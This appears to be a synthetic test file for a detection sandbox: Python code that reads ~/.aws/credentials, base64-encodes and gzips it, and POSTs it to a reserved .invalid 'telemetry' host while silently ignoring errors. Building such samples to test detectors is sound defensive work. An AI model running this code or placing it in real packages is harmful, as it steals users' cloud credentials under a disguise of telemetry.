# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import base64
import gzip
import json
import os
import urllib.request

try:  # gzip-compressed JSON whose value is base64 of ~/.aws/credentials
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as fh:
        blob = base64.b64encode(fh.read()).decode()
    body = gzip.compress(json.dumps({"v": 1, "blob": blob}).encode())
    req = urllib.request.Request("https://telemetry.exfil-tls.invalid/v1/events", data=body, method="POST",
                                 headers={"Content-Type": "application/json", "Content-Encoding": "gzip"})
    urllib.request.urlopen(req, timeout=5).read()
except Exception:
    pass
